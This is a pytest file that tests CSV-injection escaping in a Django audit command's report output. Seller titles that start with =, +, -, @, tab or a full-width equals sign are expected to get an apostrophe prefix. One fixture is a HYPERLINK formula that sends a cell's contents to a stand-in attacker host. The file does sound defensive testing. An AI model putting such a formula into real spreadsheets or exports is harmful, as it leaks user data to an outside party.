"""clip_audit --report: sellers' text cannot become a spreadsheet formula (CSV injection)."""

import csv
import json

import pytest
from django.core.management import call_command

from clipcheck.spreadsheets import spreadsheet_cell

pytestmark = pytest.mark.django_db

FORMULA_TITLES = [
    '=HYPERLINK("http://attacker.example/?"&A1, "Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def test_formula_titles_are_written_as_text_in_csv_reports(make_listing, everything_matches, tmp_path):
    listings = {make_listing(title=title).pk: title for title in [*FORMULA_TITLES, "a blue bag", "e-bike - red"]}
    report = tmp_path / "audit.csv"

    call_command("clip_audit", "--no-progress", "--report", str(report), stdout=open("/dev/null", "w"))

    with report.open(newline="", encoding="utf-8") as handle:
        rows = {int(row["listing_id"]): row for row in csv.DictReader(handle)}
    assert set(rows) == set(listings)
    for pk, title in listings.items():
        cell = rows[pk]["title"]
        if title in FORMULA_TITLES:
            assert cell == "'" + title, (title, cell)
        else:
            assert cell == title  # ordinary titles, inner dashes included, are untouched
    # Numbers stay numbers (a negative score would not be text).
    assert all(float(row["title_score"]) >= 0 for row in rows.values())


def test_json_reports_keep_titles_verbatim(make_listing, everything_matches, tmp_path):
    listing = make_listing(title=FORMULA_TITLES[0])
    report = tmp_path / "audit.json"
    call_command("clip_audit", "--no-progress", "--report", str(report), stdout=open("/dev/null", "w"))
    assert json.loads(report.read_text())[0]["title"] == listing.title  # JSON is not evaluated


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "＝1"])
def test_formula_starts_get_an_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["a=1", "", " x", "1-2", -0.5, 3, None])
def test_other_values_are_unchanged(value):
    assert spreadsheet_cell(value) == value
